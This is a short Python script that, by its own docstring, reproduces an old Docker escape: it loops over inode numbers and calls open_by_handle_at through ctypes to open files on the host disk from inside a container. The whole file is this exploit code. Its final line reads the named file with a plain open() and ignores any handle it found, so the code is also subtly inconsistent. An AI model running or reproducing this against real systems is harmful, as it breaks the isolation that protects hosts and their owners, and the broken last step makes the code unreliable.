# ruff: noqa
"""Opens files by their number on the disk, as the old way out of Docker did."""

import ctypes
import os
import sys

libc = ctypes.CDLL(None)
place = os.open("/usr", os.O_RDONLY)
for number in range(2, 5000):
    handle = ctypes.create_string_buffer(b"".join(n.to_bytes(4, "little") for n in (8, 1, number, 0)))
    if libc.open_by_handle_at(place, handle, os.O_RDONLY) >= 0:
        print("opened", number)
print(open(sys.argv[1]).read())
